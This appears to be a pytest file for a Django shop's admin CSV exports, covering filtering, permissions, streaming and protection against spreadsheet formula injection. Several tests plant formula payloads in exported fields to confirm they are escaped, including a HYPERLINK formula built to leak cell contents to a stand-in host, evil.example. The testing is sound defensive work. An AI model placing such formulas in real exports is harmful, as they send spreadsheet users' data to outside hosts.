"""CSV exports of the filtered changelists: payments, ledger rows, buyers, users and promo codes."""

import csv
import io

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from core.admin import FORMULA_PREFIXES, csv_cell
from payments.ledger import balance_adjust
from payments.models import Payment
from tests.admin.conftest import paid_payment
from tests.payments.factories import PaymentFactory
from tests.promos.factories import PromoCodeFactory
from tests.users.factories import StaffUserFactory, UserFactory

pytestmark = pytest.mark.django_db

PAYMENTS_EXPORT = reverse("admin:payments_payment_export")


def csv_rows(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def column(rows, name) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def test_the_payments_export_holds_the_filtered_list_only(admin_client_for, finance_user, tariff_1m):
    paid = [paid_payment(), paid_payment()]
    PaymentFactory(tariff=tariff_1m)  # pending: filtered out

    rows = csv_rows(admin_client_for(finance_user).get(PAYMENTS_EXPORT, {"status__exact": "succeeded"}))

    assert sorted(column(rows, "purchase id")) == sorted(str(p.purchase_id) for p in paid)
    assert set(column(rows, "status")) == {"succeeded"}
    assert column(rows, "amount (Stars)") == ["100", "100"]


def test_the_payments_export_follows_the_search(admin_client_for, finance_user, tariff_1m):
    wanted = paid_payment(user=UserFactory(telegram_id=777001, telegram_username="wanted"))
    paid_payment()

    rows = csv_rows(admin_client_for(finance_user).get(PAYMENTS_EXPORT, {"q": "@wanted"}))

    assert column(rows, "purchase id") == [str(wanted.purchase_id)]
    assert column(rows, "Telegram id") == ["777001"]


def test_the_changelist_links_its_export_with_its_filters(admin_client_for, finance_user, tariff_1m):
    page = admin_client_for(finance_user).get(
        reverse("admin:payments_payment_changelist"), {"status__exact": "pending", "p": "2"}
    )

    assert page.context["csv_export_url"] == f"{PAYMENTS_EXPORT}?status__exact=pending"
    assert 'id="csv-export"' in page.content.decode()


def test_the_export_header_is_in_the_readers_language(client, finance_user, tariff_1m):
    client.force_login(finance_user)
    paid_payment()

    rows = csv_rows(client.get(PAYMENTS_EXPORT, HTTP_ACCEPT_LANGUAGE="ru"))

    assert rows[0][:2] == ["ID покупки", "создано"]


def test_a_filter_that_does_not_exist_exports_nothing_and_says_so(admin_client_for, finance_user):
    response = admin_client_for(finance_user).get(PAYMENTS_EXPORT, {"no_such_field__gt": "x"})

    assert response.status_code == 302
    assert "nothing was exported" in " ".join(str(m) for m in response.wsgi_request._messages)


def test_an_export_needs_the_view_permission(client, db):
    client.force_login(StaffUserFactory())

    assert client.get(PAYMENTS_EXPORT).status_code == 403


def test_the_ledger_export_holds_the_filtered_rows(admin_client_for, finance_user, tariff_1m):
    buyer = UserFactory(telegram_id=777002)
    balance_adjust(user=buyer, delta=40, reason='=HYPERLINK("http://evil")', actor=finance_user)
    paid_payment()

    response = admin_client_for(finance_user).get(
        reverse("admin:payments_ledgerentry_export"), {"kind__exact": "adjustment"}
    )

    rows = csv_rows(response)
    assert column(rows, "Telegram id") == ["777002"]
    assert column(rows, "balance change (Stars)") == ["40"]
    assert column(rows, "reason") == ['\'=HYPERLINK("http://evil")']  # not run as a formula by a spreadsheet


def test_the_buyers_export_holds_buyers_with_what_they_paid(admin_client_for, finance_user, tariff_1m):
    payment = paid_payment(user=UserFactory(telegram_id=777003), charge_prefix="stxEXPORT")
    UserFactory(telegram_id=777004)  # never paid
    StaffUserFactory()  # not a buyer

    rows = csv_rows(admin_client_for(finance_user).get(reverse("admin:users_buyer_export")))

    by_id = {row[0]: row for row in rows[1:]}
    assert set(by_id) == {"777003", "777004"}
    header = rows[0]
    paid_row = by_id["777003"]
    assert paid_row[header.index("paid through Telegram (Stars)")] == "100"
    assert paid_row[header.index("subscription")] == "active"
    assert paid_row[header.index("first purchase")].startswith(payment.paid_at.date().isoformat())
    assert by_id["777004"][header.index("subscription")] == "never"


def test_the_buyers_export_follows_the_subscription_filter(admin_client_for, finance_user, tariff_1m):
    paid_payment(user=UserFactory(telegram_id=777005), charge_prefix="stxEXPORT")
    UserFactory(telegram_id=777006)

    rows = csv_rows(
        admin_client_for(finance_user).get(reverse("admin:users_buyer_export"), {"subscription": "never_paid"})
    )

    assert column(rows, "Telegram id") == ["777006"]


def test_the_users_export_streams_in_chunks(admin_client_for, superuser, tariff_1m, monkeypatch):
    from users.admin import ShopUserAdmin

    monkeypatch.setattr(ShopUserAdmin, "csv_chunk_size", 2)
    for telegram_id in range(777010, 777015):
        UserFactory(telegram_id=telegram_id)

    rows = csv_rows(admin_client_for(superuser).get(reverse("admin:users_user_export")))

    assert len(rows) == 1 + 5 + 1  # header, five buyers, the superuser


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+7", "'+7"),
        ("-x", "'-x"),
        ("@a", "'@a"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        (-5, -5),
        (None, ""),
        (True, "1"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_quoted(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_a_big_export_is_read_from_the_database_in_chunks(admin_client_for, superuser, tariff_1m):
    # given more payments than one chunk
    user = UserFactory()
    Payment.objects.bulk_create(
        [
            Payment(user=user, tariff=tariff_1m, base_price=100, amount=100, invoice_payload=f"big-{i}")
            for i in range(4500)
        ]
    )
    client = admin_client_for(superuser)

    # when the export is read, its rows arrive as the stream is consumed
    response = client.get(PAYMENTS_EXPORT)
    stream = iter(response.streaming_content)
    first = next(stream)

    # then the first line came before the rest was read, and all rows arrive in the end
    assert first.decode("utf-8-sig").startswith("purchase id,")
    assert sum(chunk.count(b"\n") for chunk in stream) == 4500


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def _every_export(client, promo) -> dict[str, object]:
    return {
        "promo codes (action)": client.post(
            reverse("admin:promos_promocode_changelist"), {"action": "export_csv", "_selected_action": [promo.pk]}
        ),
        "promo codes (link)": client.get(reverse("admin:promos_promocode_export")),
        "payments": client.get(PAYMENTS_EXPORT),
        "ledger": client.get(reverse("admin:payments_ledgerentry_export")),
        "users": client.get(reverse("admin:users_user_export")),
        "buyers": client.get(reverse("admin:users_buyer_export")),
    }


def test_every_export_neutralises_cells_a_spreadsheet_would_run(admin_client_for, superuser, tariff_1m):
    # given a promo code, its description, a buyer's name and a ledger reason that are formulas
    promo = PromoCodeFactory(code=FORMULA.replace(" ", ""), description="+" + FORMULA, discount_percent=10)
    buyer = UserFactory(first_name="@" + FORMULA, last_name="-2+3")
    paid_payment(user=buyer, promo_code=promo.code)
    balance_adjust(user=buyer, delta=5, reason="\t" + FORMULA, actor=superuser)

    exports = {name: csv_rows(response) for name, response in _every_export(admin_client_for(superuser), promo).items()}

    for name, rows in exports.items():
        cells = [cell for row in rows[1:] for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)], name
        assert any(cell.startswith("'") and "HYPERLINK" in cell for cell in cells), name
    assert exports["promo codes (action)"][1][:2] == ["'" + promo.code, "'+" + FORMULA]
